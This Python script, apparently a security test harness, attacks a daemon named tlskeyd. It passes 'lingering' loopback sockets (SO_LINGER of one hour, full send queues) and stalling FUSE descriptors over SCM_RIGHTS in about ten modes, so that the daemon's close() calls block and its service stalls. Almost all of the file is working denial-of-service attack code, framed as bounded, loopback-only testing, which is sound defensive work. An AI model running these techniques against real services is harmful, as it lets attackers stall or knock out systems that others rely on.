#!/usr/bin/env python3
"""linger-attack.py: descriptors that make a close() wait, passed to tlskeyd.

A "lingering" socket is a loopback TCP connection whose peer never reads,
with its send queue full and SO_LINGER {1, 3600}: whoever drops the last
reference to it waits in close() for up to an hour, unless the close is
bounded.  The attacker passes such sockets to the daemon in ways that make
the daemon hold the last reference, then keeps the peers alive.

    linger-attack.py MODE N HOLD_S
        check       CHECK with a lingering socket attached (takes none)
        badtype     a message of an unknown type with one attached
        badrole     START with role 3 (refused before the ACL) and one
        queued      CHECK, then a second message carrying one, queued
                    behind it (released when the daemon closes the
                    connection)
        queued-start  START refused by the ACL, then a queued message
                    carrying one
        deep        CHECK, then 260 small messages, then one carrying a
                    lingering socket: more than the daemon drains from a
                    connection it closes (256), so the close itself
                    releases it (100 ms each under the timer, on the
                    thread that answered, before the closer threads took
                    such closes); send it while the daemon is stopped,
                    so that every message is queued before it reads one
        manyfds     CHECK with 252 descriptors of /dev/null and one
                    lingering socket (more than a small receive buffer
                    takes: a cut message has the kernel close the rest)
        pipeline    START toward a silent TLS server (an admitted caller),
                    then two more messages during its handshake, the last
                    carrying one
        backlog     CHECK with one attached, on a connection the daemon
                    has not accepted (it is stopped): the listener's close
                    releases it
        nested      CHECK with 100 UNIX sockets attached, each holding a
                    lingering socket in its receive queue: each close of
                    one by the daemon drops the last reference to its
                    lingering socket (100 closes of 100 ms each, before
                    the closer threads, on the receiving thread); send it
                    while the daemon is stopped, so that its closes are
                    the last ones
        fuse        START with role 3 (refused before the ACL) with a
                    descriptor of the file $STALL_FILE attached (a FUSE
                    file whose server never answers the daemon's flush)
    linger-attack.py probe TIMEOUT_S
        one CHECK; prints "PROBE ms=M errno=E" or "PROBE none" and exits 1

Prints "ARMED n=N" once every connection was sent, then holds HOLD_S
seconds.  Environment: TLSKEYD_SOCKET.  Loopback only; every wait is
bounded."""
import array
import os
import select
import socket
import struct
import sys
import time

MAGIC, VERSION = 0x544B, 1
START, CHECK = 1, 9
T_ROLE, T_PROTO, T_FLAGS, T_MYNAME, T_SNINAME, T_ERRNO = 1, 2, 3, 4, 5, 10


def item(tag, value):
    if isinstance(value, str):
        value = value.encode()
    return struct.pack(">HH", tag, len(value)) + value


def u8(tag, v):
    return item(tag, bytes([v]))


def u32(tag, v):
    return item(tag, struct.pack(">I", v))


def message(mtype, items=b""):
    return struct.pack(">HBBI", MAGIC, VERSION, mtype, len(items)) + items


def start_msg(myname, role=1, extra=b""):
    return message(START, u8(T_ROLE, role) + u8(T_PROTO, 6) + u32(T_FLAGS, 0) +
                   item(T_MYNAME, myname) + extra)


def check_msg(myname="alice@example.test"):
    return message(CHECK, u8(T_ROLE, 1) + item(T_MYNAME, myname))


def daemon():
    """A blocking connection (no Python timeout, which would poll() before
    every send and lose the race to queue a second message)."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(os.environ["TLSKEYD_SOCKET"])
    return s


def send(s, m, fds=()):
    anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    s.sendmsg([m], anc)


def answer_errno(s, timeout):
    """The errno of the daemon's answer, None if none came in time."""
    r, _, _ = select.select([s], [], [], timeout)
    if not r:
        return None
    try:
        data, anc, _, _ = s.recvmsg(16384, socket.CMSG_SPACE(4 * 4))
    except OSError as e:
        return "recv:%d" % e.errno
    for lvl, typ, d in anc:
        if lvl == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
            for fd in array.array("i", d[:len(d) - len(d) % 4]):
                os.close(fd)
    p = 8
    while p + 4 <= len(data):
        tag, ln = struct.unpack(">HH", data[p:p + 4])
        if tag == T_ERRNO and ln == 4:
            return struct.unpack(">I", data[p + 4:p + 8])[0]
        p += 4 + ln
    return "eof" if not data else 0


def lingering():
    """(socket, its silent peer, the listener): keep all three alive."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    ls.bind(("127.0.0.1", 0))
    ls.listen(8)
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    s.connect(ls.getsockname())
    peer, _ = ls.accept()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    s.setblocking(False)
    junk = b"x" * 65536
    end = time.time() + 5
    while time.time() < end:
        try:
            s.send(junk)
        except BlockingIOError:
            _, w, _ = select.select([], [s], [], 0.3)
            if not w:
                break
    if not s.getsockopt(socket.SOL_SOCKET, socket.SO_LINGER):
        raise SystemExit("SO_LINGER did not stick")
    return s, peer, ls


def lingering_quick(ls):
    """A lingering socket whose peer ls accepts, filled without waiting:
    (socket, its peer)."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    s.connect(ls.getsockname())
    peer, _ = ls.accept()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    s.setblocking(False)
    try:
        while True:
            s.send(b"x" * 65536)
    except BlockingIOError:
        pass
    return s, peer


def nested(keep, n):
    """n UNIX sockets, each with a lingering socket queued in it."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    ls.bind(("127.0.0.1", 0))
    ls.listen(n)
    keep.append(ls)
    out = []
    for _ in range(n):
        s, peer = lingering_quick(ls)
        keep.append(peer)
        a, b = socket.socketpair()
        send(a, b"x", [s.fileno()])
        s.close()  # the reference in b's queue stays
        a.close()
        out.append(b)
    return out


def silent_server():
    """A connected TCP socket to a server that accepts and never answers."""
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(4)
    c = socket.create_connection(ls.getsockname(), timeout=5)
    srv, _ = ls.accept()
    return c, [ls, srv]


def arm(mode, keep):
    """One connection armed; a queued message the daemon refused in time
    (it had answered and shut the connection: EPIPE) is sent again on a new
    connection, 50 times at most."""
    for _ in range(50):
        try:
            return arm_once(mode, keep)
        except (BrokenPipeError, ConnectionResetError):
            continue
    raise SystemExit(mode + ": the daemon never left a message queued")


def arm_once(mode, keep):
    if mode in ("nested", "fuse"):  # they make their own descriptors
        c = daemon()
        keep.append(c)
        send_attack(mode, keep, c, None)
        return
    s, peer, ls = lingering()
    keep += [peer, ls]
    c = daemon()
    keep.append(c)
    try:
        send_attack(mode, keep, c, s)
    except OSError:
        # Not passed: our close would be the last one, and wait.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
        s.close()
        raise
    s.close()  # the daemon holds the last reference now


def send_attack(mode, keep, c, s):
    if mode in ("check", "backlog"):
        send(c, check_msg(), [s.fileno()])
    elif mode == "badtype":
        send(c, message(99), [s.fileno()])
    elif mode == "badrole":
        send(c, start_msg("alice@example.test", role=3), [s.fileno()])
    elif mode == "queued":
        send(c, check_msg())
        send(c, check_msg(), [s.fileno()])
    elif mode == "queued-start":
        t, k = silent_server()
        keep += k
        send(c, start_msg("alice@example.test"), [t.fileno()])
        t.close()
        send(c, check_msg(), [s.fileno()])
    elif mode == "deep":
        send(c, check_msg())
        for _ in range(260):
            send(c, b"x" * 20)
        send(c, check_msg(), [s.fileno()])
    elif mode == "manyfds":
        dummies = [os.open("/dev/null", os.O_RDONLY | os.O_CLOEXEC) for _ in range(252)]
        send(c, check_msg(), dummies + [s.fileno()])
        for d in dummies:
            os.close(d)
    elif mode == "nested":
        holders = nested(keep, 100)
        send(c, check_msg(), [b.fileno() for b in holders])
        # Whoever closes a holder last waits (its lingering socket goes
        # with it): run this while the daemon is stopped (SIGSTOP), so
        # that ours go first.
        for b in holders:
            b.close()
    elif mode == "fuse":
        f = os.open(os.environ["STALL_FILE"], os.O_RDONLY | os.O_CLOEXEC)
        try:
            send(c, start_msg("alice@example.test", role=3), [f])
        finally:
            os.close(f)
    elif mode == "pipeline":
        t, k = silent_server()
        keep += k
        send(c, start_msg("alice@example.test", extra=item(T_SNINAME, "peer.example.test")),
             [t.fileno()])
        t.close()
        time.sleep(0.3)  # its handshake is under way on a worker
        send(c, check_msg())
        send(c, check_msg(), [s.fileno()])
    else:
        raise SystemExit("unknown mode " + mode)


def main():
    mode = sys.argv[1]
    if mode == "probe":
        t0 = time.time()
        c = daemon()
        send(c, check_msg())
        e = answer_errno(c, float(sys.argv[2]))
        if e is None:
            print("PROBE none", flush=True)
            sys.exit(1)
        print("PROBE ms=%d errno=%s" % ((time.time() - t0) * 1000, e), flush=True)
        return
    n, hold = int(sys.argv[2]), float(sys.argv[3])
    keep = []
    for _ in range(n):
        arm(mode, keep)
    print("ARMED n=%d" % n, flush=True)
    time.sleep(hold)


if __name__ == "__main__":
    main()
